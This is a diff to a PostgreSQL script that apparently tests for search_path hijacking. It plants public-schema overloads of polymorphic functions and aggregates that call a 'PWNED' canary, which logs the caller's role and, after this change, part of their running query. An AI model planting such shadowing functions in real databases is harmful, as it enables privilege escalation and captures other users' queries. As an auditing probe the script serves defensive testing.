@@ -21,14 +21,15 @@
 --   3. the same for the common operators.
 SET client_min_messages = notice;
 
-CREATE TABLE IF NOT EXISTS public.bv_pwned (wat text, als text, wanneer timestamptz DEFAULT now());
+CREATE TABLE IF NOT EXISTS public.bv_pwned (wat text, als text, opdracht text, wanneer timestamptz DEFAULT now());
 GRANT INSERT, SELECT ON public.bv_pwned TO PUBLIC;
 
 CREATE OR REPLACE FUNCTION public.bv_pwn(wat text) RETURNS boolean
 LANGUAGE plpgsql AS $pwn$
 BEGIN
     RAISE WARNING 'PWNED: % ran as %', wat, current_user;
-    INSERT INTO public.bv_pwned (wat, als) VALUES (wat, current_user);
+    INSERT INTO public.bv_pwned (wat, als, opdracht)
+    VALUES (wat, current_user, pg_catalog.left(pg_catalog.current_query(), 400));
     -- Evidence that survives the caller's rollback: a file written with the
     -- caller's rights (only a superuser may).
     BEGIN
@@ -205,5 +206,73 @@ BEGIN
             o.oprname, o.links, o.rechts, o.sleutel);
     END LOOP;
     RAISE NOTICE 'planted % operators', n;
+END
+$plant$;
+
+-- 4. Concrete instances of polymorphic functions and aggregates (array_agg,
+--    unnest, array_append, ...): a concrete overload is an exact match and
+--    beats the polymorphic original.
+DO $plant$
+DECLARE
+    f record;
+    n integer := 0;
+BEGIN
+    FOR f IN
+        WITH namen AS (
+            SELECT DISTINCT m[1] AS naam
+              FROM pg_temp.bron, pg_catalog.regexp_matches(tekst, '([a-z_][a-z0-9_]*)\s*\(', 'g') AS m),
+        poly AS (
+            SELECT p.proname, p.prokind, pg_temp.args(p.proargtypes) AS args, p.prorettype, p.proretset
+              FROM pg_catalog.pg_proc p JOIN namen ON namen.naam = p.proname
+             WHERE p.prokind IN ('f', 'a') AND p.pronargs > 0 AND p.provariadic = 0
+               AND (p.proargmodes IS NULL OR 'o' <> ALL (p.proargmodes) AND 't' <> ALL (p.proargmodes))
+               AND EXISTS (SELECT 1 FROM pg_catalog.unnest(pg_temp.args(p.proargtypes)) a(t)
+                            WHERE a.t::regtype::text IN ('anyelement', 'anynonarray', 'anycompatible',
+                                  'anycompatiblenonarray', 'anyarray', 'anycompatiblearray'))
+               AND NOT EXISTS (SELECT 1 FROM pg_catalog.unnest(pg_temp.args(p.proargtypes) || p.prorettype) a(t)
+                                 JOIN pg_catalog.pg_type y ON y.oid = a.t
+                                WHERE y.typtype = 'p'
+                                  AND a.t::regtype::text NOT IN ('anyelement', 'anynonarray', 'anycompatible',
+                                      'anycompatiblenonarray', 'anyarray', 'anycompatiblearray'))),
+        inst AS (
+            SELECT DISTINCT ON (p.proname, x.args) p.proname, p.prokind, x.args, p.proretset,
+                   CASE WHEN p.prorettype::regtype::text LIKE 'any%array' THEN y.typarray
+                        WHEN p.prorettype::regtype::text LIKE 'any%' THEN y.oid
+                        ELSE p.prorettype END AS ret
+              FROM poly p
+             CROSS JOIN pg_temp.soort s
+              JOIN pg_catalog.pg_type y ON y.oid OPERATOR(pg_catalog.=) s.t::oid
+             CROSS JOIN LATERAL (
+                 SELECT pg_catalog.array_agg(CASE WHEN a.t::regtype::text LIKE 'any%array' THEN y.typarray
+                                                  WHEN a.t::regtype::text LIKE 'any%' THEN y.oid
+                                                  ELSE a.t END ORDER BY a.o) AS args
+                   FROM pg_catalog.unnest(p.args) WITH ORDINALITY a(t, o)) x
+             WHERE NOT EXISTS (SELECT 1 FROM pg_catalog.pg_proc q
+                                WHERE q.proname = p.proname AND pg_temp.args(q.proargtypes) = x.args))
+        SELECT proname, prokind, proretset, ret::regtype AS ret,
+               (SELECT pg_catalog.string_agg(a::regtype::text, ', ' ORDER BY o)
+                  FROM pg_catalog.unnest(args) WITH ORDINALITY AS u(a, o)) AS sig,
+               pg_catalog.md5(proname || '(' || args::text || ')') AS sleutel
+          FROM inst
+    LOOP
+        n := n + 1;
+        IF f.prokind = 'f' THEN
+            EXECUTE pg_catalog.format(
+                'CREATE FUNCTION public.%I(%s) RETURNS %s%s LANGUAGE sql AS %L',
+                f.proname, f.sig, CASE WHEN f.proretset THEN 'SETOF ' ELSE '' END, f.ret,
+                pg_catalog.format('SELECT CASE WHEN public.bv_pwn(%L) THEN NULL::%s END',
+                                  f.proname || '(' || f.sig || ')', f.ret));
+        ELSE
+            EXECUTE pg_catalog.format(
+                'CREATE FUNCTION public.bv_pwn_sf_%s(%s, %s) RETURNS %s LANGUAGE sql AS %L',
+                f.sleutel, f.ret, f.sig, f.ret,
+                pg_catalog.format('SELECT CASE WHEN public.bv_pwn(%L) THEN NULL::%s END',
+                                  'aggregate ' || f.proname || '(' || f.sig || ')', f.ret));
+            EXECUTE pg_catalog.format(
+                'CREATE AGGREGATE public.%I(%s) (SFUNC = public.bv_pwn_sf_%s, STYPE = %s)',
+                f.proname, f.sig, f.sleutel, f.ret);
+        END IF;
+    END LOOP;
+    RAISE NOTICE 'planted % concrete instances of polymorphic functions and aggregates', n;
 END
 $plant$;
